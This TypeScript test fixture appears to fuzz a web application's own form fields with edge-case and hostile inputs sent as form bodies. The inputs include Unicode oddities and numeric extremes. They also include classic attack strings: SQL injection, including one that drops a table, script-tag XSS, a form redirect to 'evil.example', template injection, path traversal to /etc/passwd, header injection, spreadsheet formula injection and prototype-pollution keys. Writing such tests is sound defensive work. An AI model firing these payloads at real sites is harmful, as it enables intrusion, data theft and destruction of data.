/** What is typed into boxes by people, programs and their enemies. */
import type { Heard } from './knock.ts'
import { knock } from './knock.ts'
import type { Visitor } from './visitor.ts'
import { encoded, hiddenFields } from './visitor.ts'

/** What is typed, as a browser or anything else writes it in a body: percent-encoded, and not always well. */
export interface Typed {
  what: string
  raw: readonly string[]
}

export const typed = (what: string, ...values: string[]): Typed => ({
  what,
  raw: values.map((value) => encodeURIComponent(value)),
})

export const values: readonly Typed[] = [
  { what: 'nothing at all', raw: [] },
  typed('empty', ''),
  typed('spaces', ' \t\u00a0\u2003\u3000 '),
  typed('only marks nobody sees', '\u200b\u200f\ufeff'),
  typed('a megabyte', 'x'.repeat(1_000_000)),
  typed('digits without end', '1'.repeat(100_000)),
  typed('spaces without end', ` ${' '.repeat(100_000)}x`),
  { what: 'a NUL', raw: ['a%00b'] },
  typed('control characters', 'a\u0007\u001b[31m\u007f\u0085b'),
  typed('line ends', 'a\r\nb\rc\nd\u2028e'),
  typed('marks of direction', '\u202e1234\u202c \u2067abc'),
  typed('emoji', '👩‍👩‍👧‍👦🪁'),
  typed('letters piled up', `z${'\u0301'.repeat(150)}`),
  typed('marks in a wrong order', `z${'\u0345'.repeat(15_000)}${'\u0301'.repeat(15_000)}${'\u0323'.repeat(15_000)}`),
  typed('a letter that unfolds to many', '\ufdfa'.repeat(90)),
  typed('SQL', "' OR 1=1 --"),
  typed('SQL that drops', "'); drop table cases; --"),
  typed('markup', '"><script>alert(1)</script><img src=x onerror=alert(1)>'),
  typed('the end of a box', '</textarea></form><form action="//evil.example">'),
  typed('a comment and entities', '<!-- &lt;script&gt; &amp;#x22; -->'),
  typed('a template', `{{7*7}}$\{7*7}<%= 7*7 %>#{7}{name}%s%n`),
  typed('a line of its own first', '\n\nbelow'),
  typed('a path', '../../../../etc/passwd'),
  typed('a header', 'x\r\nSet-Cookie: publica=evil'),
  typed('a formula', '=cmd|" /C calc"!A0'),
  typed('a comma for the cents', '1 000,50'),
  typed('a comma for the thousands', '1,000.50'),
  typed('full-width digits', '１２３４'),
  typed('Arabic digits', '١٢٣٤'),
  typed('an endless number', `1${'0'.repeat(5000)}`),
  typed('an endless fraction', `0.${'3'.repeat(5000)}`),
  typed('an exponent', '1e999999999'),
  typed('a small exponent', '1e-999999999'),
  typed('not a number', 'NaN'),
  typed('infinite', '-Infinity'),
  typed('another base', '0x10'),
  typed('minus zero', '-0'),
  typed('a number below all', '-99999999999999999999'),
  typed('a number for a 32-bit machine', '2147483648'),
  typed('true', 'true'),
  typed('null', 'null'),
  typed('JSON', '{"$ne":null}'),
  typed('the same twice', 'yes', 'yes'),
  typed('two values', '1', '2'),
  typed('a thousand values', ...Array.from({ length: 1000 }, (_, index) => String(index))),
  { what: 'half a character', raw: ['a%ED%A0%80b'] },
  { what: 'bytes that are no text', raw: ['%FF%FE%C0%AF'] },
  { what: 'half an escape', raw: ['100%'] },
  { what: 'no escape', raw: ['%zz%u0041'] },
  typed('characters that are none', '\ufffe\uffff\u{1ffff}'),
  typed('a prototype', '__proto__'),
  typed('a constructor', 'constructor'),
]

/** Under what other names a field may come: shapes that other software takes for lists and objects. */
export const misshapen = (field: string) => [
  `${field}[]=1`,
  `${field}[0]=1`,
  `${field}[__proto__]=1`,
  `${field}.x=1`,
  ` ${field}=1`,
]

export const asRead = (raw: string) => new URLSearchParams(`x=${raw}`).get('x')!

/** What a page can hold of what was typed: all but what is no character, and those that command a terminal. */
export const onPage = (raw: string) => asRead(raw).replace(/(?![\r\n\t])\p{Cc}/gu, '')

const form = { 'content-type': 'application/x-www-form-urlencoded', 'sec-fetch-site': 'same-origin' }
/** Sends a body as it is, as a form of ours would be. */
export const send = (visitor: Visitor, path: string, body: string): Promise<Heard> =>
  knock(visitor, path, { body, headers: form })

/** A page's fields with one of them as somebody typed it. */
export const bodyOf = (page: string, fields: Record<string, string>, field: string, raw: readonly string[]) => {
  const { [field]: _, ...others } = fields
  const { [field]: __, ...hidden } = hiddenFields(page)
  return [encoded({ ...hidden, ...others }), ...raw.map((one) => `${field}=${one}`)].join('&')
}
